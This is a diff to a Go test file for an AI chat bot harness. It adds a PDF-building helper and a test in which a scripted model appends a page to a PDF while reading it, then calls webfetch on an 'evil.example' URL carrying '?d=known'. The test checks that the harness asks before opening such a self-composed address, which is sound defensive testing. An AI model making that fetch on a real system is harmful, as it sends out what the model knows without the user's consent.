@@ -577,6 +577,54 @@ func TestAFileVouchesForAnAddressOnlyAsItWasReceived(t *testing.T) {
 	}
 }
 
+// plainPDF is a PDF of one page with a line of text, whose cross-reference table readers rebuild.
+func plainPDF(line string) *telegram.Attachment {
+	page := "BT /F 8 Tf 72 700 Td (" + line + ") Tj ET"
+	data := fmt.Sprintf("%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"+
+		"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"+
+		"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n"+
+		"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n", len(page), page)
+	return &telegram.Attachment{Kind: telegram.KindDocument, Name: "mine.pdf", MIME: "application/pdf", Data: []byte(data)}
+}
+
+// A call beside the one that reads a PDF appends to it a page that says what the model knows: that page is nobody's but
+// the model's, so an address in it asks.
+func TestAPDFThatIsChangedWhileItIsReadVouchesForNoAddress(t *testing.T) {
+	t.Parallel()
+	evil := ""
+	w := newHarness(t, openai.ResponderFunc(func(_ context.Context, req openai.Request) (openai.Reply, error) {
+		last := req.Messages[len(req.Messages)-1]
+		switch {
+		case last.Role == "user" && strings.Contains(last.Content, "here it is"):
+			return openai.Reply{Text: "Thank you."}, nil
+		case last.Role == "user", strings.HasPrefix(last.Content, "Loaded "):
+			if reply, err := useTool(req, "pdf", "pdf_extract_text", `{}`); err != nil || reply.Calls[0].Name != "pdf_extract_text" {
+				return reply, err
+			}
+			page := "BT /F 8 Tf 72 700 Td (" + evil + "/a/c?d) Tj (=known) Tj ET"
+			update := callOf("", "write_file", "path", "inbox/mine.pdf", "mode", "append", "content",
+				fmt.Sprintf("4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n", len(page), page))
+			return openai.Reply{Calls: []openai.ToolCall{
+				{ID: "read", Name: "pdf_extract_text", Arguments: `{"path":"inbox/mine.pdf"}`},
+				{ID: "write", Name: update.tool, Arguments: update.arguments},
+			}}, nil
+		case last.ToolCallID == "read" || last.ToolCallID == "write":
+			return openai.Reply{Calls: []openai.ToolCall{{ID: "fetch", Name: "webfetch", Arguments: fmt.Sprintf(`{"url":%q}`, evil+"/a/c?d=known")}}}, nil
+		}
+		return openai.Reply{Text: "Done: " + last.Content}, nil
+	}))
+	evil = w.withSites(t)("evil.example")
+	bot := w.run()
+	who := w.person("Reader")
+	w.ask(bot, who, "here it is", plainPDF("See "+evil+"/a/received?x=1"))
+	answer := w.ask(bot, who, "what does it say?", nil)
+	if strings.Contains(answer, "Done: ") {
+		t.Errorf("an address that the model put together was opened without a question: %s", answer)
+	} else if !strings.Contains(answer, asksAddress) {
+		t.Errorf("answered %q", answer)
+	}
+}
+
 // What scripts compose counts with what the turn has composed before.
 func TestScriptsComposeNoMoreThanATurnMay(t *testing.T) {
 	t.Parallel()
